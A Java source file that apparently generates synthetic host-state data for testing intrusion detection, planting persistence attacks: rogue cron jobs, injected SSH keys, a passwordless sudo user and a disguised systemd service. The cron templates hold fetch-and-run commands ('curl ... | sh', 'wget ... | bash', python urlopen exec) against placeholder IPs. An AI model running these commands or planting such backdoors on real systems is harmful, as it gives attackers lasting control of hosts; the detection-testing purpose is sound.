package io.diffy.simulator;

import static io.diffy.simulator.AttackEvidence.unexpected;

import java.util.List;
import java.util.Map;

/** Attacks that come back: after a reboot, or with the attacker. */
final class PersistenceAttacks {
  private PersistenceAttacks() {}

  static List<AttackEvidence> rogueCron(HostRows rows, Dice dice) {
    String path = "/etc/cron.d/" + dice.pick(List.of("php-sessions", "mdcheck", "ntp-sync"));
    String command =
        dice.pick(
                List.of(
                    "root curl -fsS http://203.0.113.%d/%s | sh",
                    "root /usr/bin/python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://203.0.113.%d/%s\").read())'",
                    "root wget -q -O- http://203.0.113.%d/%s | bash -s"))
            .formatted(1 + dice.below(250), dice.word(5));
    rows.add(
        "crontab",
        Map.of(
            "minute", "*/" + (5 + dice.below(20)),
            "hour", "*",
            "day_of_month", "*",
            "month", "*",
            "day_of_week", "*",
            "command", command,
            "path", path));
    return List.of(unexpected("crontab", Map.of("command", command, "path", path)));
  }

  static List<AttackEvidence> authorizedKey(HostRows rows, Dice dice) {
    String key = "AAAAC3NzaC1lZDI1NTE5AAAAI" + dice.word(43);
    boolean root = dice.chance(0.5);
    String name = root ? "root" : "ops";
    String uid = root ? "0" : "1000";
    String comment = dice.pick(List.of("", "ops@bastion", "deploy"));
    String file = (root ? "/root" : "/home/ops") + "/.ssh/authorized_keys";
    rows.add(
        "authorized_keys",
        Map.of(
            "username", name,
            "uid", uid,
            "algorithm", "ssh-ed25519",
            "key", key,
            "comment", comment,
            "key_file", file));
    return List.of(unexpected("authorized_keys", Map.of("key", key)));
  }

  static List<AttackEvidence> sudoUser(HostRows rows, Dice dice) {
    String name = dice.pick(List.of("svc-backup", "sysmon", "gdm2", "ansible0"));
    String id = Integer.toString(1500 + dice.below(80));
    String home = "/home/" + name;
    rows.add(
        "users",
        Map.of(
            "username", name,
            "uid", id,
            "gid", id,
            "uid_signed", id,
            "gid_signed", id,
            "directory", home,
            "shell", "/bin/bash"));
    rows.add("groups", Map.of("groupname", name, "gid", id, "gid_signed", id));
    String rule = "ALL=(ALL) NOPASSWD:ALL";
    rows.add(
        "sudoers",
        Map.of("source", "/etc/sudoers.d/README.bak", "header", name, "rule_details", rule));
    return List.of(
        unexpected("users", Map.of("username", name, "uid", id)),
        unexpected("groups", Map.of("groupname", name)).beside(),
        unexpected("sudoers", Map.of("header", name, "rule_details", rule)).beside());
  }

  static List<AttackEvidence> systemdUnit(HostRows rows, Dice dice) {
    String name =
        dice.pick(List.of("dbus-org.service", "systemd-netlogd.service", "nvme-cache.service"));
    String path = "/usr/lib/" + dice.pick(List.of("libnvme-cache", "netlogd", "dbus-org-d"));
    rows.add(
        "systemd_units",
        Map.of(
            "id", name,
            "description", "System Message Cache",
            "load_state", "loaded",
            "active_state", "active",
            "sub_state", "running",
            "unit_file_state", "enabled",
            "fragment_path", "/etc/systemd/system/" + name));
    AttackEvidence process = ImplantAttacks.process(rows, dice, path, path + " --daemon", "1");
    return List.of(unexpected("systemd_units", Map.of("id", name)), process.beside());
  }
}
